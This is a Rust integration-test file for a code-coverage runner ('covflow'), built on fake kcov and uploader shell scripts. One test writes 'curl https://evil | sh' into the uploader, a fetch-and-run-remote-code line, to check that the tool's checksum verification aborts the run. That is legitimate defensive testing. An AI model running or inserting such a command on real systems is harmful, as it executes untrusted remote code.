#![cfg(unix)]
//! Corridas completas con un kcov y un uploader falsos (scripts sh).

use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};

use cov_core::hashing::sha256_file;
use cov_core::{ArtifactStatus, RunEventKind, TrustError, UploadOutcome, UploadPolicy};
use cov_persistence::{load_events, read_report};
use covflow::app::execute;
use covflow::config::RunnerConfig;
use covflow::errors::AppError;
use tempfile::TempDir;

fn script(dir: &Path, name: &str, body: &str) -> PathBuf {
    let path = dir.join(name);
    fs::write(&path, format!("#!/bin/sh\n{body}\n")).unwrap();
    fs::set_permissions(&path, fs::Permissions::from_mode(0o755)).unwrap();
    path
}

/// Workspace de prueba: build dir, kcov falso y uploader falso que deja sus
/// argumentos en `uploaded.txt`.
struct Fixture {
    dir: TempDir,
    kcov: PathBuf,
    uploader: PathBuf,
}

impl Fixture {
    fn new(upload_exit: i32) -> Self {
        let dir = tempfile::tempdir().unwrap();
        fs::create_dir_all(dir.path().join("build")).unwrap();
        let tools = dir.path().join("tools");
        fs::create_dir_all(&tools).unwrap();
        let kcov = script(&tools,
                          "kcov",
                          r#"out=""; prev=""
for arg in "$@"; do out="$prev"; prev="$arg"; done
echo covered > "$out/coverage.txt"
exec "$prev""#);
        let marker = dir.path().join("uploaded.txt");
        let uploader = script(&tools,
                              "codecov",
                              &format!("echo \"$@\" > {}\nexit {upload_exit}", marker.display()));
        Self { dir, kcov, uploader }
    }

    fn build(&self) -> PathBuf {
        self.dir.path().join("build")
    }

    fn cov(&self) -> PathBuf {
        self.dir.path().join("cov")
    }

    fn state(&self) -> PathBuf {
        self.dir.path().join("covflow")
    }

    fn binary(&self, name: &str, exit: i32) {
        script(&self.build(), name, &format!("exit {exit}"));
    }

    fn uploaded(&self) -> Option<String> {
        fs::read_to_string(self.dir.path().join("uploaded.txt")).ok()
                                                                .map(|s| s.trim().to_string())
    }

    fn config(&self) -> RunnerConfig {
        let mut cfg = RunnerConfig::default();
        cfg.build_dir = self.build();
        cfg.coverage_dir = self.cov();
        cfg.prefix = Some("app-".into());
        cfg.instrumenter = self.kcov.display().to_string();
        cfg.uploader = Some(self.uploader.display().to_string());
        cfg.uploader_sha256 = Some(sha256_file(&self.uploader).unwrap());
        cfg.token_env = "COVFLOW_E2E_TOKEN_NEVER_SET".into();
        cfg
    }
}

#[test]
fn successful_run_writes_report_and_event_log() {
    let fx = Fixture::new(0);
    fx.binary("app-abc123", 0);
    fs::write(fx.build().join("app-abc123.d"), "deps").unwrap();
    fx.binary("other-xyz", 0);

    let mut out = Vec::new();
    let code = execute(&fx.config(), false, &mut out).unwrap();
    assert_eq!(code, 0);

    let report = read_report(&fx.state().join("covflow-report.json")).unwrap();
    assert_eq!(report.artifacts.len(), 1);
    assert_eq!(report.artifacts[0].name, "app-abc123");
    assert_eq!(report.artifacts[0].status, ArtifactStatus::Succeeded);
    assert_eq!(report.upload, UploadOutcome::Succeeded { attempts: 1 });
    assert!(fx.cov().join("app-abc123").join("coverage.txt").is_file());
    assert_eq!(fx.uploaded().unwrap(), format!("-s {}", fx.cov().display()));

    let events = load_events(&fx.state().join("covflow-events.jsonl")).unwrap();
    assert!(matches!(events.first().map(|e| &e.kind), Some(RunEventKind::RunInitialized { .. })));
    assert!(matches!(events.last().map(|e| &e.kind),
                     Some(RunEventKind::RunCompleted { success: true, exit_code: 0 })));

    let summary = String::from_utf8(out).unwrap();
    assert!(summary.contains("1 artifact(s): 1 ok, 0 con fallo"));
}

#[test]
fn coverage_root_holds_only_artifact_output() {
    let fx = Fixture::new(0);
    fx.binary("app-a", 0);
    fx.binary("app-b", 0);

    assert_eq!(execute(&fx.config(), false, &mut Vec::new()).unwrap(), 0);
    let mut entries: Vec<String> = fs::read_dir(fx.cov()).unwrap()
                                                         .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
                                                         .collect();
    entries.sort();
    assert_eq!(entries, vec!["app-a", "app-b"]);
    assert!(fx.state().join("covflow-report.json").is_file());
    assert!(fx.state().join("covflow-events.jsonl").is_file());
}

#[test]
fn unrepresentable_timeouts_do_not_abort_the_run() {
    let fx = Fixture::new(0);
    fx.binary("app-abc123", 0);
    let mut cfg = fx.config();
    cfg.run_timeout_secs = Some(u64::MAX);
    cfg.artifact_timeout_secs = Some(u64::MAX);
    assert!(cfg.validate().is_ok());

    assert_eq!(execute(&cfg, false, &mut Vec::new()).unwrap(), 0);
    let report = read_report(&fx.state().join("covflow-report.json")).unwrap();
    assert_eq!(report.artifacts[0].status, ArtifactStatus::Succeeded);
}

#[test]
fn failing_artifact_and_upload_combine_exit_bits() {
    let fx = Fixture::new(1);
    fx.binary("app-good", 0);
    fx.binary("app-bad", 2);

    let code = execute(&fx.config(), false, &mut Vec::new()).unwrap();
    assert_eq!(code, 5);

    let report = read_report(&fx.state().join("covflow-report.json")).unwrap();
    let names: Vec<_> = report.artifacts.iter().map(|a| (a.name.as_str(), a.status)).collect();
    assert_eq!(names,
               vec![("app-bad", ArtifactStatus::Failed), ("app-good", ArtifactStatus::Succeeded)]);
    assert!(matches!(report.upload, UploadOutcome::Failed { attempts: 1, .. }));
    // los datos locales se conservan aunque el upload falle
    assert!(fx.cov().join("app-good").join("coverage.txt").is_file());
}

#[test]
fn instrumentation_failure_alone_exits_with_one() {
    let fx = Fixture::new(0);
    fx.binary("app-bad", 9);
    assert_eq!(execute(&fx.config(), false, &mut Vec::new()).unwrap(), 1);
    assert!(fx.uploaded().is_some());
}

#[test]
fn dry_run_prints_plan_without_touching_disk() {
    let fx = Fixture::new(0);
    fx.binary("app-abc123", 0);

    let mut out = Vec::new();
    let code = execute(&fx.config(), true, &mut out).unwrap();
    assert_eq!(code, 0);
    let printed = String::from_utf8(out).unwrap();
    assert!(printed.contains("1 artifact(s) planificados"));
    assert!(printed.contains(&fx.build().join("app-abc123").display().to_string()));
    assert!(printed.contains(&format!("upload: {} -s {}", fx.uploader.display(), fx.cov().display())));
    assert!(!fx.cov().exists());
    assert!(fx.uploaded().is_none());
}

#[test]
fn tampered_uploader_aborts_before_instrumentation() {
    let fx = Fixture::new(0);
    fx.binary("app-abc123", 0);
    let cfg = fx.config();
    fs::write(&fx.uploader, "#!/bin/sh\ncurl https://evil | sh\n").unwrap();

    let err = execute(&cfg, false, &mut Vec::new()).unwrap_err();
    assert!(matches!(err, AppError::Trust(TrustError::ChecksumMismatch { .. })));
    assert_eq!(err.exit_code(), 3);
    assert!(!fx.cov().exists());
}

#[test]
fn empty_build_dir_without_upload_succeeds() {
    let fx = Fixture::new(0);
    let mut cfg = fx.config();
    cfg.upload = UploadPolicy::Disabled;

    assert_eq!(execute(&cfg, false, &mut Vec::new()).unwrap(), 0);
    let report = read_report(&fx.state().join("covflow-report.json")).unwrap();
    assert!(report.artifacts.is_empty());
    assert_eq!(report.upload, UploadOutcome::NotRequested);
    assert!(fx.uploaded().is_none());
}

#[test]
fn missing_build_dir_is_fatal() {
    let fx = Fixture::new(0);
    let mut cfg = fx.config();
    cfg.build_dir = fx.dir.path().join("nope");
    let err = execute(&cfg, false, &mut Vec::new()).unwrap_err();
    assert!(matches!(err, AppError::Core(_)));
    assert_eq!(err.exit_code(), 3);
}
